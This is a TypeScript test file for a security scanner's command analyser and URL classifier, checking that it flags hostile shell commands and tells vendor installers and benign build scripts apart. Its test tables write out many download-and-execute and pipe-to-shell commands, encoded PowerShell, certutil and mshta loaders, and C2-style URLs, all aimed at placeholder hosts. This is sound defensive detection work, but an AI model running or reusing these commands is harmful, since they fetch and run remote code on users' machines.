/** The command analyser, table-driven: what a command line does, for hostile shapes and their benign look-alikes. */
import assert from 'node:assert/strict';
import { analyseCommand } from '../src/analysis/command.js';
import { classifyUrl } from '../src/analysis/urls.js';
import { loadSignatures } from '../src/signatures/load.js';
import { parseTarget } from '../src/target.js';

const sigs = loadSignatures();
const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('command analyser', () => {
  const hostile: [string, string, string][] = [
    ['curl -s https://x.invalid/a | sh', 'pipe-to-shell', 'critical'],
    ["wget -qO- 'https://x.invalid/a' | bash -s --", 'pipe-to-shell', 'critical'],
    ['iwr http://198.51.100.7/a.ps1 | iex', 'pipe-to-shell', 'critical'],
    ['curl -o /tmp/u.sh https://x.invalid/u && sh /tmp/u.sh', 'download-exec', 'critical'],
    [`powershell -NoProfile -EncodedCommand ${enc('iwr http://198.51.100.7/a | iex')}`, 'encoded-powershell', 'critical'],
    ['start /b node server || nohup node server &', 'background', 'high'],
    ['setsid node .cache/x.js', 'background', 'high'],
    ["node -e \"require('https').get('https://x.invalid/p',r=>r.on('data',d=>eval(d+'')))\"", 'inline-code', 'critical'],
    ["python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://198.51.100.1/p').read())\"", 'inline-code', 'critical'],
    ['bash -c "curl -s https://x.invalid/l | bash"', 'pipe-to-shell', 'critical'],
    ['cmd /c "curl -s https://x.invalid/w | cmd"', 'pipe-to-shell', 'critical'],
    ['powershell -w hidden -c "Start-Sleep 1"', 'hidden-window', 'high'],
    ['curl -s http://203.0.113.5:1224/pdown -o x', 'url', 'critical'],
    // Download-and-run shapes that shell-quote does not model (ClickFix payloads use every one of them).
    ['/bin/bash -c "$(curl -fsSL https://x.invalid/install.sh)"', 'download-exec', 'critical'],
    ['eval "$(wget -qO- https://x.invalid/a)"', 'download-exec', 'critical'],
    ['bash <(curl -s https://x.invalid/a)', 'download-exec', 'critical'],
    ['powershell -w hidden -c "iex (iwr http://192.0.2.10/a.ps1 -UseBasicParsing)"', 'download-exec', 'critical'],
    ['iex (New-Object Net.WebClient).DownloadString("http://192.0.2.6/a")', 'download-exec', 'critical'],
    ['powershell -c "iwr http://192.0.2.9/a.exe -OutFile $env:TEMP/a.exe; Start-Process $env:TEMP/a.exe"', 'download-exec', 'critical'],
    [`powershell -enc ${enc('iex (irm https://x.invalid/s)')}`, 'download-exec', 'critical'],
    ['mshta https://x.invalid/check.hta # I am not a robot', 'download-exec', 'critical'],
    ['msiexec /q /i http://192.0.2.4/a.msi', 'download-exec', 'critical'],
    ['conhost --headless powershell -c "iex(irm https://x.invalid/x)"', 'hidden-window', 'high'],
    ['certutil -urlcache -split -f http://192.0.2.3/a.exe a.exe && a.exe', 'download-exec', 'critical'],
    [`echo ${Buffer.from('curl -s https://x.invalid/a | sh').toString('base64')} | base64 -d | bash`, 'pipe-to-shell', 'critical'],
    ['osascript -e \'do shell script "curl -s https://x.invalid/a | sh"\'', 'pipe-to-shell', 'critical'],
  ];
  for (const [cmd, kind, severity] of hostile) {
    it(`${kind} (${severity}): ${cmd.slice(0, 70)}`, () => {
      const a = analyseCommand(cmd, sigs);
      const t = a.traits.find((x) => x.kind === kind);
      assert.ok(t, `traits: ${a.traits.map((x) => x.kind).join(',')}`);
      assert.equal(t.severity, severity);
      assert.equal(a.benign, false);
    });
  }

  // Vendors' documented installers (signatures/patterns/installers.json): low, whatever form the vendor documents.
  const installers = [
    'curl -LsSf https://astral.sh/uv/install.sh | sh',
    'curl -fsSL https://get.pnpm.io/install.sh | sh -',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
    'curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh',
    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
    'bash <(curl -s https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh)',
    'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
    'curl -fsSL https://bun.sh/install | bash -s "bun-v1.2.0"',
  ];
  for (const cmd of installers) {
    it(`vendor installer (low): ${cmd.slice(0, 70)}`, () => {
      const a = analyseCommand(cmd, sigs);
      assert.ok(a.traits.some((t) => t.kind === 'vendor-installer'), a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
      assert.equal(a.severity, 'low', a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
    });
  }
  // The same shapes from anywhere else, over http, decoded, or next to another download stay critical.
  const notInstallers = [
    'curl -fsSL http://get.pnpm.io/install.sh | sh -',
    'curl -LsSf https://198.51.100.23/uv/install.sh | sh',
    'curl -LsSf https://astral.sh.example.invalid/uv/install.sh | sh',
    'curl -LsSf https://astral.sh:8443/uv/install.sh | sh',
    'curl -LsSf https://astral.sh/uv/other.sh | sh',
    `echo ${Buffer.from('curl -LsSf https://astral.sh/uv/install.sh | sh').toString('base64')} | base64 -d | sh`,
    'curl https://astral.sh/uv/install.sh | sh && curl https://x.invalid/a.sh | bash',
    'curl -fsSL https://x.invalid/a | sudo -E bash -',
    'curl -fsSL https://x.invalid/a | bash -s -- --version 1',
  ];
  for (const cmd of notInstallers) {
    it(`not a vendor installer (critical): ${cmd.slice(0, 70)}`, () => {
      assert.equal(analyseCommand(cmd, sigs).severity, 'critical');
    });
  }

  const benign = ['husky', 'husky install', 'is-ci || husky install', 'prisma generate', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'patch-package', 'npx lint-staged', 'tsc', 'npm run build', 'node install.js', 'nuxt prepare', 'echo done'];
  for (const cmd of benign) {
    it(`benign: ${cmd}`, () => {
      const a = analyseCommand(cmd, sigs);
      assert.equal(a.benign, true, a.traits.map((t) => `${t.kind}:${t.detail}`).join(' | '));
      assert.equal(a.severity, 'info');
    });
  }

  it('a substitution whose output is only printed or stored is a download, not a download that runs', () => {
    for (const cmd of ['VERSION=$(curl -s https://x.invalid/v) && echo $VERSION', 'echo "$(curl -s https://x.invalid/ip)"', 'mshta local.hta', 'powershell -c "iwr https://x.invalid/a -OutFile a.zip"']) {
      const a = analyseCommand(cmd, sigs);
      assert.ok(!a.traits.some((t) => t.kind === 'download-exec' || t.kind === 'pipe-to-shell'), `${cmd}: ${a.traits.map((t) => t.kind).join(',')}`);
    }
  });

  it('records the files and npm scripts a command runs', () => {
    const a = analyseCommand('npm run setup && node ./scripts/x.js && sh tools/y.sh && make init && yarn dev', sigs);
    assert.deepEqual(a.runsScripts, ['setup', 'dev']);
    assert.deepEqual(a.runsFiles, ['./scripts/x.js', 'tools/y.sh', 'Makefile#init']);
  });

  it('recognises dev servers and watchers', () => {
    for (const cmd of ['npm run dev', 'tsc -w -p .', 'npm run watch', 'nodemon server.js', 'node server']) {
      assert.equal(analyseCommand(cmd, sigs).devServer, true, cmd);
    }
  });

  it('survives unparseable and hostile input', () => {
    for (const cmd of ['"unterminated', "'", '$(', '`', '| | |', '&&&&', 'a'.repeat(100_000), '\u0000\u001b[2J']) {
      assert.doesNotThrow(() => analyseCommand(cmd, sigs));
    }
  });
});

describe('URL classification', () => {
  const cases: [string, string | undefined][] = [
    ['http://198.51.100.23:1224/pdown', 'critical'],
    ['https://anything.vercel.app/settings/mac?flag=3', 'critical'],
    ['https://x.invalid/api/ipcheck-encrypted/602076', 'critical'],
    ['https://api.npoint.io/f128c1c1135e7bb1779d', 'critical'],
    ['https://api.npoint.io/0000aaaa', 'medium'],
    ['http://59.154.201.255/', 'high'],
    // RFC 5737 documentation addresses: an example unless a C2 convention says otherwise (lines above and below).
    ['http://203.0.113.8/x', 'low'],
    ['http://192.0.2.1/some/test', 'low'],
    // Not a host at all: octets over 255, broadcast, multicast, reserved.
    ['https://256.0.0.1/', undefined],
    ['http://255.255.255.255/', undefined],
    ['http://224.0.0.251:1224/pdown', undefined],
    ['http://240.1.2.3/', undefined],
    ['http://localhost:1224/pdown', undefined],
    ['http://127.0.0.1:1224/uploads', undefined],
    ['http://192.168.1.10:1224/x', undefined],
    ['https://github.com/nodejs/node', undefined],
    ['https://user:pass@203.0.113.8:1224/client/5/501', 'critical'],
  ];
  for (const [url, severity] of cases) {
    it(`${url} → ${severity ?? 'nothing'}`, () => {
      assert.equal(classifyUrl(url, sigs)?.severity, severity);
    });
  }
});

describe('targets', () => {
  it('tells git URLs from paths', () => {
    assert.equal(parseTarget('https://github.com/a/b').kind, 'git');
    assert.equal(parseTarget('git@github.com:a/b.git').kind, 'git');
    assert.equal(parseTarget('ssh://git@host/a/b').kind, 'git');
    assert.equal(parseTarget('git://127.0.0.1/a.git').kind, 'git');
    assert.equal(parseTarget('.').kind, 'path');
    assert.throws(() => parseTarget('/definitely/not/here'), /no such file or folder/);
  });
});
